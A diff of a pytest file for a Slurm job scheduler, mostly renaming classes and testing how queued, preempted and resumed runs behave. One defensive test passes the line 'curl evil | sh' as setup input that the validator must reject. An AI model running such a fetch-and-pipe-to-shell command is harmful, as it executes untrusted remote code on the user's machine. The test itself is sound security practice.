@@ -23,9 +23,9 @@ from engine.study.plan.plan import StudyPlan
 from engine.study.plan.snapshot import Watcher
 from engine.study.schedule import slurm as slurm_executor
 from engine.study.schedule.job import Schedule
-from engine.study.schedule.loop import Look, StudyJob
-from engine.study.schedule.slurm import Options, Slurm
-from engine.study.schedule.slurm_queue import TOO_SHORT, NoAnswer, Queue, ask
+from engine.study.schedule.loop import StudyJob, StudyProgress
+from engine.study.schedule.slurm import Slurm, SlurmOptions
+from engine.study.schedule.slurm_queue import TOO_SHORT, SlurmQueue, SlurmUnavailable, ask
 from engine.worker import work
 
 META = {"epochs": 1000, "checkpoint_every": 5.0}  # long enough to be disturbed on a fast machine
@@ -63,7 +63,7 @@ class Scheduler(StudyJob):
         return self.folder / "report" / "report.md"
 
 
-def schedule(started: Run, on_look: Callable[[Look], None], control: Control | None = None) -> str:
+def schedule(started: Run, on_look: Callable[[StudyProgress], None], control: Control | None = None) -> str:
     return work(Run(started.path), control=control, make_runner=partial(Scheduler, on_look=on_look))
 
 
@@ -80,7 +80,7 @@ def step(run: RunReader) -> int:
 
 
 def slurm_job(started: Run, run: RunReader) -> str:
-    return Queue(started.path).jobs()[run.path].id
+    return SlurmQueue(started.path).jobs()[run.path].id
 
 
 # -- runs and what disturbs them ------------------------------------------
@@ -95,12 +95,12 @@ def test_disturbed_in_every_way_runs_go_on_from_their_checkpoints(slurm, tmp_pat
 
     control = Control()
 
-    def stop_early(seen: Look) -> None:
+    def stop_early(seen: StudyProgress) -> None:
         control.stop |= step(plain) > 0 and step(slow) > 0
 
     assert schedule(started, stop_early, control) == "stopped"
     assert [run.recorded_status().state for run in (plain, slow, fast)] == ["stopped", "stopped", "queued"]
-    assert not [job for job in Queue(started.path).jobs().values() if not job.has_ended], "none runs, none waits"
+    assert not [job for job in SlurmQueue(started.path).jobs().values() if not job.has_ended], "none runs, none waits"
     reached = {run: step(run) for run in (plain, slow)}
 
     done: set[str] = set()
@@ -111,7 +111,7 @@ def test_disturbed_in_every_way_runs_go_on_from_their_checkpoints(slurm, tmp_pat
             return True
         return False
 
-    def disturb(seen: Look) -> None:
+    def disturb(seen: StudyProgress) -> None:
         if once("preempt", all(step(run) > before for run, before in reached.items())):
             subprocess.run(["sbatch", "-p", "urgent", "-c2", "-o/dev/null", "--wrap", "sleep 1"], check=True)
         if once("time is nearly up", fast.recorded_status().state == "running" and step(fast) > 3):
@@ -164,35 +164,35 @@ def queued_by_one_that_is_gone(tmp_path: Path) -> tuple[Run, list[RunReader]]:
     plan = three()
     started = job(tmp_path, plan, executor="slurm")
     runs = [RunReader(Run.create(tmp_path, c.preset, run_id=c.run_id(plan.stamp)).path) for c in plan.grid()]
-    Slurm(Options(), started.path).start([(run, "cpu") for run in runs])
+    Slurm(SlurmOptions(), started.path).start([(run, "cpu") for run in runs])
     return started, runs
 
 
 def test_the_next_scheduler_knows_what_is_queued_and_can_take_it_back(closed, tmp_path):
     started, runs = queued_by_one_that_is_gone(tmp_path)
-    later = Slurm(Options(), started.path, jobs=5)
+    later = Slurm(SlurmOptions(), started.path, jobs=5)
     assert later.pending() == {run.path for run in runs}
     assert later.slots(runs) == ["auto"] * 2
-    assert Slurm(Options(), job(tmp_path / "other", three()).path).pending() == set()
+    assert Slurm(SlurmOptions(), job(tmp_path / "other", three()).path).pending() == set()
 
     later.stop(runs[:2])
     eventually(lambda: later.pending() == {runs[2].path})
     assert "PENDING" in later.why(runs[2])
     later.start([(runs[0], "cpu")])
     assert later.pending() == {runs[0].path, runs[2].path}
-    assert Slurm(Options(), started.path).pending() == {runs[0].path, runs[2].path}
+    assert Slurm(SlurmOptions(), started.path).pending() == {runs[0].path, runs[2].path}
 
 
 def test_while_slurm_is_silent_nothing_is_forgotten_and_nothing_started(closed, slurm, tmp_path, monkeypatch):
     started, runs = queued_by_one_that_is_gone(tmp_path)
-    later = Slurm(Options(), started.path)
+    later = Slurm(SlurmOptions(), started.path)
     before = later.pending()
     with monkeypatch.context() as patch:
         patch.setenv("PATH", str(tmp_path))  # no squeue there
         eventually(lambda: later.pending() == before and not later.slots([]))
         assert "Slurm does not answer" in RunReader(started.path).log_path.read_text()
-        with pytest.raises(NoAnswer, match="no squeue on this machine"):
-            Slurm(Options(), started.path).pending()
+        with pytest.raises(SlurmUnavailable, match="no squeue on this machine"):
+            Slurm(SlurmOptions(), started.path).pending()
     eventually(lambda: later.pending() == before and later.slots([]))
 
 
@@ -200,7 +200,7 @@ def test_what_slurm_refuses_is_said_in_a_line(slurm, tmp_path, capfd):
     started = job(tmp_path, three())
     run = RunReader(tmp_path / "run")
     with pytest.raises(LregError, match=r"does not take the jobs: .*[Ii]nvalid partition name specified"):
-        Slurm(Options(partition="nowhere"), started.path).start([(run, "cpu")])
+        Slurm(SlurmOptions(partition="nowhere"), started.path).start([(run, "cpu")])
     assert capfd.readouterr().err == ""
 
 
@@ -210,18 +210,18 @@ def test_what_slurm_refuses_is_said_in_a_line(slurm, tmp_path, capfd):
 def test_options_are_checked_all_at_once():
     typed = {"partition": "gpu long", "time": "1h", "gpus": "many", "cpus": "0", "mem": "8 GB", "array": "-1"}
     with pytest.raises(SettingsError) as found:
-        Options.of(typed)
+        SlurmOptions.of(typed)
     for name, value in typed.items():
         assert f'--slurm-{name}: found "{value}"; allowed: ' in str(found.value)
-    fine = Options.of({"time": "1-02:03:30", "gpus": "a100:1", "mem": "8G"})
+    fine = SlurmOptions.of({"time": "1-02:03:30", "gpus": "a100:1", "mem": "8G"})
     assert fine.minutes == 26 * 60 + 4 and fine.wants_gpus
-    assert [Options.of({"time": text}).minutes for text in ("30", "1:30", "4:00:00", "2-0")] == [30, 2, 240, 2880]
+    assert [SlurmOptions.of({"time": text}).minutes for text in ("30", "1:30", "4:00:00", "2-0")] == [30, 2, 240, 2880]
 
 
 def test_shell_comes_from_the_environment_never_from_a_studys_folder(monkeypatch):
     """Whoever resumes a study of a stranger's must not run the stranger's commands."""
     with pytest.raises(SettingsError, match="setup"):
-        Options.of({"setup": ["curl evil | sh"]})  # as a schedule.json may have it
+        SlurmOptions.of({"setup": ["curl evil | sh"]})  # as a schedule.json may have it
     monkeypatch.setenv(slurm_executor.SETUP, "module load cuda\nexport A=1")
     assert slurm_executor.setup_lines() == ["module load cuda", "export A=1"]
     monkeypatch.setenv(slurm_executor.SETUP, "  #SBATCH --partition=all")
